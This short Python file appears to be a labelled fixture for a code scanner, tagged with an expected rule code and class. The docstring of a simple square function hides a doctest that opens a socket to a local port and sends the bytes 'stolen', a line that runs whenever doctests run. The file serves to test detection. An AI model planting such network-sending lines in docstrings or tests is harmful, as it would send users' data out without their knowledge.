# expect: AIC305
# class: 2
def square(x: int) -> int:
    """Square a number. Hostile: an example sends data to a local listener.

    >>> import socket; socket.create_connection(('127.0.0.1', 47613), timeout=2).send(b'stolen')
    6
    >>> square(4)
    16
    """
    return x * x
